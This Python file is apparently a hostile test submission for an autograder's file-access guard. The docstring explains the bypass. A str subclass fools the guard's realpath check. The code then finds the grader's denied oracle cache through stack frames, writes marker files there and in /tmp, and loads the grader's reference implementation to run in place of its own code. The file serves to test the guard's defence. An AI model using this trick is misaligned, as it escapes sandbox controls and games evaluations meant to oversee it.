"""Hostile submission: a path that says one thing to the guard and another to the kernel.

The guard checks ``os.path.realpath(os.fsdecode(path))``; the kernel opens the characters of
the string. A ``str`` subclass whose ``[1:]`` slice answers ``"dev/null"`` makes realpath
(which strips the leading "/" with ``rest[1:]``) resolve every such path to ``/dev/null``,
which the guard lets anyone read and write, while ``open()`` uses the real text. (An object
whose ``__fspath__`` answers differently on each call does not work here: ``open`` and
``os.open`` convert it once and audit the converted string.) With it the submission writes
``torchlab-escape-fspath_trick`` into the grader's oracle cache folder and into /tmp, reads
``reference_impl/strides.py`` and runs it in place of its own code. The guard must resolve
exactly the path the kernel will open (a plain ``str`` copy, or a file descriptor it checks
after opening), refuse every read and write here ("may not read", "may not write"), and the
score is 0.
"""

import os
import pwd
import sys

MARK = "torchlab-escape-fspath_trick"


class Sly(str):
    def __getitem__(self, key):
        if key == slice(1, None):  # posixpath._joinrealpath: rest = rest[1:]
            return "dev/null"
        return str.__getitem__(self, key)


def _cache_dirs():
    frame, found = sys._getframe(), []
    while frame is not None:  # the worker's request names the grader's oracle cache
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "guard" in request:
            found += [p for p in request["guard"]["deny_read"] if p.endswith("oracle")]
        frame = frame.f_back
    home = pwd.getpwuid(os.getuid()).pw_dir
    return [*found, os.path.join(home, ".cache", "torchlab", "oracle")]


def _escape():
    for folder in dict.fromkeys([*_cache_dirs(), "/tmp"]):
        try:
            with open(Sly(os.path.join(folder, MARK)), "x") as f:
                f.write("written past the guard with a str subclass\n")
        except OSError:
            pass
    root = os.path.dirname(os.path.dirname(sys.modules["autograder"].__file__))
    with open(Sly(os.path.join(root, "reference_impl", "strides.py"))) as f:
        return f.read()


_source = None


def arange(*args, **kwargs):
    global _source
    if _source is None:
        _source = _escape()
        exec(_source, globals())  # the reference engine replaces this module's functions
    return globals()["arange"](*args, **kwargs)
